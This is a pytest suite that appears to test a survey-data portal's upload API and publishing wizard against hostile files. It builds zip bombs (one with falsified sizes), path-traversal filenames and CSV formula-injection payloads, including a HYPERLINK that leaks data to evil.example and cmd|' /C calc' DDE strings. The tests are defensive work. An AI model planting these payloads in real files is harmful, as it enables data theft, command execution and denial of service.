"""Hostile files through the REST upload API: each gets a clean error and the public version stays as it was;
formula-like cells never reach a download unneutralised."""

from __future__ import annotations

import csv
import functools
import io
import json
import struct
import zipfile
import zlib

import polars as pl
import pytest

from indexer.synthetic import demo_metadata, generate_survey

from .conftest import MAX_UPLOAD_BYTES
from .leaks import assert_clean

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def _auth(token):
    return {"Authorization": f"Bearer {token}"}


def _xlsx(sheet_xml: bytes, *, level: int = 6) -> bytes:
    """A minimal workbook around one worksheet part."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        zf.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        zf.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return buf.getvalue()


def _sheet(rows: list[list[str]], formula_cell: bool = False) -> bytes:
    out = [
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    ]
    for r, row in enumerate(rows, 1):
        cells = "".join(
            f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
            for c, v in enumerate(row)
        )
        if formula_cell and r == 2:
            cells += f'<c r="{chr(65 + len(row))}{r}"><f>HYPERLINK("http://evil.example","x")</f><v>0</v></c>'
        out.append(f'<row r="{r}">{cells}</row>')
    out.append("</sheetData></worksheet>")
    return "".join(out).encode()


def _zip_bomb() -> bytes:
    """A workbook whose one worksheet inflates ~1000:1 (20 MB from a few tens of kB)."""
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>aaaa</t></is></c></row>'
    body = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    body += row * (20_000_000 // len(row)) + b"</sheetData></worksheet>"
    return _xlsx(body, level=9)


def _lying_zip_bomb() -> bytes:
    """The same bomb with the declared uncompressed sizes patched to look harmless (1:1)."""
    data = bytearray(_zip_bomb())
    # Patch every local header (PK\x03\x04) and central directory entry (PK\x01\x02) of the sheet.
    name = b"xl/worksheets/sheet1.xml"
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) != -1:
        n = struct.unpack_from("<H", data, pos + 26)[0]
        if data[pos + 30 : pos + 30 + n] == name:
            comp = struct.unpack_from("<I", data, pos + 18)[0]
            struct.pack_into("<I", data, pos + 22, comp)
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) != -1:
        n = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + n] == name:
            comp = struct.unpack_from("<I", data, pos + 20)[0]
            struct.pack_into("<I", data, pos + 24, comp)
        pos += 4
    return bytes(data)


def _csv(df: pl.DataFrame) -> bytes:
    buf = io.BytesIO()
    df.write_csv(buf)
    return buf.getvalue()


def _nested_json(depth: int) -> bytes:
    return b'[{"a":' * depth + b"1" + b"}]" * depth


@functools.cache
def hostile_files() -> dict[str, tuple[str, bytes]]:
    survey = generate_survey(40, seed=8)
    header = survey.columns
    wide = ",".join(f"c{i}" for i in range(3000)).encode() + b"\n" + b"1," * 2999 + b"1\n"
    return {
        "zip_bomb_xlsx": ("survey.xlsx", _zip_bomb()),
        "lying_zip_bomb_xlsx": ("survey.xlsx", _lying_zip_bomb()),
        "binary_named_csv": ("survey.csv", bytes(range(256)) * 64),
        "png_named_csv": ("survey.csv", b"\x89PNG\r\n\x1a\n" + zlib.compress(b"\x00" * 5000)),
        "xlsx_named_csv": ("survey.csv", _xlsx(_sheet([header, list(survey.row(0))]))),
        "csv_named_xlsx": ("survey.xlsx", _csv(survey)),
        "xlsx_with_formula": (
            "survey.xlsx",
            _xlsx(_sheet([header, *[list(r) for r in survey.rows()]], formula_cell=True)),
        ),
        "huge_single_cell": (
            "survey.csv",
            b"comments,sex\n" + b'"' + b"x" * 1_500_000 + b'",Female\n',
        ),
        "huge_header": ("survey.csv", b"a" * 100_000 + b",sex\n1,Female\n"),
        "too_many_columns": ("survey.csv", wide),
        "deeply_nested_json": ("survey.json", _nested_json(5000)),
        "json_not_records": (
            "survey.json",
            json.dumps({"rows": {"a": {"b": [1, [2, [3]]]}}}).encode(),
        ),
        "empty_file": ("survey.csv", b""),
        "nul_bytes_csv": ("survey.csv", _csv(survey).replace(b"Female", b"Fe\x00male")),
        "over_upload_limit": ("survey.csv", b"a,b\n" + b"1,2\n" * (MAX_UPLOAD_BYTES // 4 + 10)),
        "traversal_name": ("../../../../etc/passwd.csv", b"\x00\x01"),
        "utf16_garbage": ("survey.csv", "sex,age\n\ud800".encode("utf-16", "surrogatepass")),
    }


@pytest.fixture(scope="module")
def publisher(site):
    return site.token(
        "ada", ["datasets:write", "datasets:read-private", "datasets:publish"], ["samata"]
    )


def _public_state(site, slug):
    ds = site.get(f"/api/3/action/package_show?id={slug}").json()["result"]
    return ds.get("version") or ds.get("metadata_modified"), site.get(
        f"/datasets/{slug}/download.csv"
    ).content


def test_each_hostile_file_gets_a_clean_error_and_the_public_version_is_untouched(site, publisher):
    slug = site.published["demo"]["slug"]
    before = _public_state(site, slug)
    api_before = site.get(f"/api/v1/datasets/{slug}", headers=_auth(publisher)).json()[
        "published_version"
    ]
    outcomes = {}
    for name, (filename, data) in hostile_files().items():
        resp = site.post(
            f"/api/v1/datasets/{slug}/versions",
            files={"file": (filename, data, "application/octet-stream")},
            headers=_auth(publisher),
        )
        assert_clean(resp, name, site)
        if resp.status_code == 202:
            version = resp.json()["version"]["id"]
            state = site.get(f"/api/v1/versions/{version}", headers=_auth(publisher)).json()
            report = site.get(
                f"/api/v1/versions/{version}/validation-report", headers=_auth(publisher)
            )
            assert_clean(report, name, site)
            outcomes[name] = state["status"]
            assert state["status"] in ("failed", "invalid", "rejected"), (name, state)
            text = json.dumps(state) + report.text
            assert (
                "Traceback" not in text
                and "RecursionError" not in text
                and "MemoryError" not in text
            )
            job = site.get(
                f"/api/v1/jobs/{resp.json()['job']['id']}", headers=_auth(publisher)
            ).json()
            assert job.get("error"), (name, job)
            err = job["error"]
            assert err.get("code") if isinstance(err, dict) else err, (name, job)
            # A failed version can never be published.
            pub = site.post(
                f"/api/v1/versions/{version}/publish",
                json={"approve_free_text": True},
                headers=_auth(publisher),
            )
            assert pub.status_code in (400, 409), (name, pub.status_code, pub.text[:200])
        else:
            outcomes[name] = resp.status_code
            assert resp.status_code in (400, 413, 415, 422), (name, resp.status_code)
            assert resp.json()["error"]["code"], (name, resp.text[:200])
    assert outcomes["over_upload_limit"] == 413
    # None of the refused versions can be downloaded by its number.
    for number in range(2, 2 + len(outcomes)):
        resp = site.get(f"/datasets/{slug}/versions/{number}/datapackage.zip")
        assert resp.status_code == 404, (number, resp.status_code)
    assert _public_state(site, slug) == before
    assert (
        site.get(f"/api/v1/datasets/{slug}", headers=_auth(publisher)).json()["published_version"]
        == api_before
    )


def test_a_header_without_rows_is_refused(site, publisher):
    slug = site.published["demo"]["slug"]
    resp = site.post(
        f"/api/v1/datasets/{slug}/versions",
        files={"file": ("survey.csv", b"sex,age,district\n", "text/csv")},
        headers=_auth(publisher),
    )
    assert_clean(resp, "header only", site)
    if resp.status_code == 202:
        state = site.get(
            f"/api/v1/versions/{resp.json()['version']['id']}", headers=_auth(publisher)
        ).json()
        assert state["status"] == "failed", state
    else:
        assert resp.status_code in (400, 422)


def _formula_survey() -> pl.DataFrame:
    df = generate_survey(200, seed=17)
    comments = [
        FORMULAS[i % len(FORMULAS)] if i % 3 == 0 else c
        for i, c in enumerate(df["comments"].to_list())
    ]
    return df.with_columns(pl.Series("comments", comments))


def _dangerous(cell: str) -> bool:
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return False  # a plain number
    except ValueError:
        return True


def test_formula_cells_are_neutralised_in_every_spreadsheet_download(site, publisher):
    """The CSV downloads people open in spreadsheets never start a cell with a formula; the
    Data Package's CSV (for programs, which run no cells) carries the values as they are,
    equal to the JSON download, so that its header matches its Table Schema."""
    meta = demo_metadata()
    meta["title"] = {"en": "Survey with formula-looking comments"}
    created = site.post(
        "/api/v1/datasets",
        json={"organisation": "samata", "metadata": meta},
        headers=_auth(publisher),
    )
    assert created.status_code == 201, created.text
    ds = created.json()
    up = site.post(
        f"/api/v1/datasets/{ds['id']}/versions",
        files={"file": ("survey.csv", _csv(_formula_survey()), "text/csv")},
        headers=_auth(publisher),
    )
    assert up.status_code == 202, up.text
    version = up.json()["version"]["id"]
    pub = site.post(
        f"/api/v1/versions/{version}/publish",
        json={"approve_free_text": True},
        headers=_auth(publisher),
    )
    assert pub.status_code == 202, pub.text
    slug = ds["slug"]
    downloads = {
        "csv": site.get(f"/datasets/{slug}/download.csv").text,
        "csv_hxl": site.get(f"/datasets/{slug}/download.csv?hxl=1").text,
    }
    package = site.get(f"/datasets/{slug}/datapackage.zip")
    assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as zf:
        (name,) = [n for n in zf.namelist() if n.endswith(".csv")]
        packaged = list(csv.DictReader(io.StringIO(zf.read(name).decode())))
    records = site.get(f"/datasets/{slug}/download.json").json()
    assert [r["comments"] or "" for r in packaged] == [r["comments"] or "" for r in records]
    seen_formula_text = False
    for where, text in downloads.items():
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 10, where
        for row in rows:
            for cell in row:
                assert not _dangerous(cell), f"{where}: {cell!r}"
                seen_formula_text |= "HYPERLINK" in cell or "cmd|" in cell
    assert seen_formula_text, "the comments were dropped entirely; the test checks nothing"


def test_resumable_uploads_refuse_ranges_sizes_and_other_peoples_uploads(site, publisher):
    slug = site.published["demo"]["slug"]
    for size in (-1, 0, MAX_UPLOAD_BYTES + 1, 10**30, "many", None, 1.5):
        resp = site.post(
            f"/api/v1/datasets/{slug}/uploads",
            json={"filename": "s.csv", "size": size},
            headers=_auth(publisher),
        )
        assert_clean(resp, f"size {size!r}", site)
        assert resp.status_code in (400, 413), (size, resp.status_code)
    start = site.post(
        f"/api/v1/datasets/{slug}/uploads",
        json={"filename": "s.csv", "size": 10},
        headers=_auth(publisher),
    )
    assert start.status_code == 201, start.text
    upload = start.json()["id"]
    url = f"/api/v1/uploads/{upload}"
    import requests

    def put(body: bytes, content_range: str | None, token=publisher):
        headers = {**_auth(token), **({"Content-Range": content_range} if content_range else {})}
        return requests.put(site.url + url, data=body, headers=headers, timeout=30)

    for body, rng in [
        (b"abcde", "bytes 5-9/10"),
        (b"abcde", "bytes 0-4/11"),
        (b"abcde", "bytes 0-9/10"),
        (b"abcde", "bytes -5-0/10"),
        (b"abcde", "bytes 0-4/" + "9" * 400),
        (b"abcde", "items 0-4/10"),
        (b"abcdefghijk", None),
    ]:
        resp = put(body, rng)
        assert_clean(resp, str(rng), site)
        assert resp.status_code in (400, 409, 413), (rng, resp.status_code, resp.text[:200])
    assert site.get(url, headers=_auth(publisher)).json()["received"] == 0
    outsider = site.token("bea", ["datasets:write"], ["dalit-voice"])
    other_ada = site.token("ada", ["datasets:write"], ["samata"])
    for token in (outsider, other_ada):
        assert put(b"abcde", "bytes 0-4/10", token).status_code == 404
        assert site.get(url, headers=_auth(token)).status_code == 404
    early = site.post(url + "/complete", headers=_auth(publisher))
    assert early.status_code == 409 and early.json()["error"]["code"] == "upload_incomplete"
    for bad_id in ("../../secret_key", "..%2f..%2fsecret_key", "a" * 500):
        resp = site.get(f"/api/v1/uploads/{bad_id}", headers=_auth(publisher))
        assert resp.status_code == 404, (bad_id, resp.status_code)


def test_hostile_files_through_the_portal_wizard_get_a_clean_page(site):
    from .test_csrf import CSRF_RE, signed_in

    session = signed_in(site, "ada")
    files = hostile_files()
    for name in (
        "zip_bomb_xlsx",
        "lying_zip_bomb_xlsx",
        "binary_named_csv",
        "deeply_nested_json",
        "huge_single_cell",
        "xlsx_with_formula",
        "too_many_columns",
        "over_upload_limit",
        "empty_file",
    ):
        filename, data = files[name]
        page = session.get(site.url + "/publish/", timeout=30)
        assert page.status_code == 200
        token = CSRF_RE.search(page.text).group(1)
        resp = session.post(
            site.url + "/publish/",
            data={"organisation": "samata", "csrf_token": token},
            files={"file": (filename, data)},
            allow_redirects=False,
            timeout=60,
        )
        assert_clean(resp, name, site)
        assert resp.status_code in (400, 413, 422), (name, resp.status_code)


@pytest.mark.parametrize(
    "filename, accepted",
    [
        ("सर्वेक्षण.csv", True),
        ("ｓｕｒｖｅｙ.csv", True),
        ("../../../etc/cron.d/x.csv", True),
        ("survey.csv\u202egpj.exe", None),  # read by its content; the stored name is plain ASCII
        ("survey", False),
        ("", False),
        ("....", False),
        ("con.csv", True),
    ],
)
def test_unicode_and_traversal_in_upload_file_names(site, publisher, filename, accepted):
    slug = site.published["demo"]["slug"]
    buf = io.BytesIO()
    generate_survey(30, seed=2).write_csv(buf)
    resp = site.post(
        f"/api/v1/datasets/{slug}/versions",
        files={"file": (filename, buf.getvalue(), "text/csv")},
        headers=_auth(publisher),
    )
    assert_clean(resp, filename, site)
    if accepted is None:
        assert resp.status_code in (202, 400)
        if resp.status_code == 202:
            assert "\u202e" not in resp.json()["version"]["filename"]
    elif accepted:
        assert resp.status_code == 202, (filename, resp.text[:300])
        stored = resp.json()["version"]["filename"]
        assert "/" not in stored and ".." not in stored and stored.isascii(), stored
    else:
        assert resp.status_code in (202, 400), (filename, resp.status_code)
        if resp.status_code == 202:
            state = site.get(
                f"/api/v1/versions/{resp.json()['version']['id']}", headers=_auth(publisher)
            ).json()
            assert state["status"] == "failed", state
